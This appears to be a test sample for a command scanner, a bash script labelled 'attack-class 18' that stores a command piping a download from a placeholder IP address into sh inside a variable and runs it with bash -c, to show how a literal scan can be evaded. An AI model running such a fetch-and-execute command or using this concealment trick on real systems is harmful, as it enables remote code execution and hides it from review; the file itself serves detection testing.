#!/usr/bin/env bash
# attack-class: 18
# title: bash -c "$x"
# why: the code is in a variable, invisible to a literal scan

x='curl -s http://203.0.113.5/p | sh'
bash -c "$x"
